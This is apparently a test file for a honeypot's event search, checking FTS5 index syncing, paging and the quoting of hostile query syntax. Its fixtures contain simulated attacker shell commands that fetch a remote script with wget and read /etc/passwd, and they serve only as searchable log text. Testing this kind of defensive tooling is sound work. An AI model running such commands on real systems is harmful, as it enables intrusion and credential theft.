// Full-text search over events (`q`): the FTS5 index is brought up to date before each search and
// loses deleted rows with retention; token-prefix phrase semantics, keyset paging, and hostile
// queries never reach FTS5 syntax.
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AppDeps } from '../../deps';
import { events } from '../../db/schema';
import { AppError } from '../../errors';
import { memoryDeps } from '../../testing/memory-deps';
import { runMaintenance } from '../maintenance/retention';
import { listEvents } from './events';
import { ftsQuery } from './fts-query';

let deps: AppDeps & { clock: { now: number } };
const t0 = Date.parse('2026-01-01T00:00:00Z');
const raw = (i: number, words: string) => `<134>1 2026-01-01T00:00:00Z web-01 ssh - command [relay@55555 src_ip="10.0.0.${i}"] ${words}`;

beforeAll(async () => {
  deps = await memoryDeps({ DECNET_EVENTS_RETENTION_DAYS: '30' }, { now: t0 + 40 * 86_400_000 });
  const rows = Array.from({ length: 120 }, (_, i) => ({
    id: `s-${i}`, tsMs: t0 + 35 * 86_400_000 + i, receivedAtMs: t0, decky: 'web-01', service: 'ssh', eventType: 'command', srcIp: `10.0.0.${i}`,
    raw: raw(i, i % 2 ? 'wget http://203.0.113.9/x.sh' : 'cat /etc/passwd'),
  }));
  await deps.db.insert(events).values(rows);
  // Old events, to be deleted by retention.
  await deps.db.insert(events).values([{ id: 'old-1', tsMs: t0, receivedAtMs: t0, decky: 'web-01', service: 'ssh', eventType: 'command', raw: raw(250, 'uniqueoldword') }]);
});

describe('event full-text search', () => {
  it('finds words, phrases and prefixes, newest first, and pages with a cursor', async () => {
    const wget = await listEvents(deps, { q: 'WGET' }, 100);
    expect(wget.items).toHaveLength(60);
    expect(wget.items.every((e) => e.raw.includes('wget'))).toBe(true);
    expect(wget.items.map((e) => e.seq)).toEqual([...wget.items.map((e) => e.seq)].sort((a, b) => b - a));
    expect((await listEvents(deps, { q: '/etc/pass' }, 200)).items).toHaveLength(60); // phrase, prefix on the last token
    expect((await listEvents(deps, { q: '10.0.0.7' }, 200)).items.map((e) => e.id)).toEqual(['s-79', 's-78', 's-77', 's-76', 's-75', 's-74', 's-73', 's-72', 's-71', 's-70', 's-7']);
    expect((await listEvents(deps, { q: 'passwd wget' }, 200)).items).toHaveLength(0);
    const p1 = await listEvents(deps, { q: 'wget', decky: 'web-01' }, 25);
    const p2 = await listEvents(deps, { q: 'wget', decky: 'web-01' }, 25, p1.nextCursor!);
    const p3 = await listEvents(deps, { q: 'wget', decky: 'web-01' }, 25, p2.nextCursor!);
    const ids = [...p1.items, ...p2.items, ...p3.items].map((e) => e.id);
    expect(new Set(ids).size).toBe(60);
    expect(p3.nextCursor).toBeNull();
  });

  it('keeps the index in sync with inserts and retention deletes', async () => {
    expect((await listEvents(deps, { q: 'uniqueoldword' }, 10)).items).toHaveLength(1);
    await deps.db.insert(events).values({ id: 'new-1', tsMs: deps.clock.now, receivedAtMs: deps.clock.now, decky: 'db-01', service: 'mysql', eventType: 'auth', raw: raw(251, 'freshlyarrived') });
    expect((await listEvents(deps, { q: 'freshlyarrived' }, 10)).items.map((e) => e.id)).toEqual(['new-1']);
    // Inserted after the index was synced and deleted by retention before any search: never indexed.
    await deps.db.insert(events).values({ id: 'old-2', tsMs: t0 + 1, receivedAtMs: t0, decky: 'web-01', service: 'ssh', eventType: 'command', raw: raw(252, 'unindexedold') });
    const r = await runMaintenance(deps);
    expect(r.eventsDeletedByAge).toBe(2);
    expect((await listEvents(deps, { q: 'unindexedold' }, 10)).items).toHaveLength(0);
    expect((await listEvents(deps, { q: 'uniqueoldword' }, 10)).items).toHaveLength(0);
    const integrity = await deps.db.run(sql.raw(`INSERT INTO events_fts(events_fts, rank) VALUES ('integrity-check', 1)`)).then(() => 'ok', (e: Error) => e.message);
    expect(integrity).toBe('ok');
  });

  it('never lets FTS5 syntax through: hostile queries are quoted or refused with 422', async () => {
    for (const q of ['"', 'a OR b', 'NEAR(a b)', 'raw:wget', '*', 'wget"* OR "x', '(((', 'AND', '^wget', 'x'.repeat(200), 'ü'.repeat(50)]) {
      const out = await listEvents(deps, { q }, 10).then(
        () => 'ok',
        (e: unknown) => (e instanceof AppError ? e.code : `crash: ${String(e)}`),
      );
      expect(['ok', 'validation_failed'], q).toContain(out);
    }
    expect(ftsQuery('a OR b')).toBe('"a OR b"*');
    expect(() => ftsQuery('*** ---')).toThrow(AppError);
    expect(ftsQuery(Array.from({ length: 40 }, (_, i) => `t${i}`).join(' ')).split(' ')).toHaveLength(16);
  });
});
